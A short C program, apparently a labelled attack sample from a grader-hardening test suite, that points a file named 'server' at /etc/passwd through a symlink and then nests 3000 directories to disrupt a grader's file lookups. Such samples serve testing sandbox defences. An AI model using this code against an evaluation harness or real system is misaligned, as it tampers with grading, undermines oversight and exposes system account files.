// Attack:  puts links and folders where the grader will look for files
// Lab:     fork
// Defence: several
// Without: no-result
#include <stdio.h>
#include <sys/stat.h>
#include <unistd.h>

int main(void) {
  unlink("server");
  if (symlink("/etc/passwd", "server") < 0) return 1;
  for (int depth = 0; depth < 3000; ++depth) {
    if (mkdir("deep", 0700) < 0 || chdir("deep") < 0) return 1;
  }
  return 1;
}
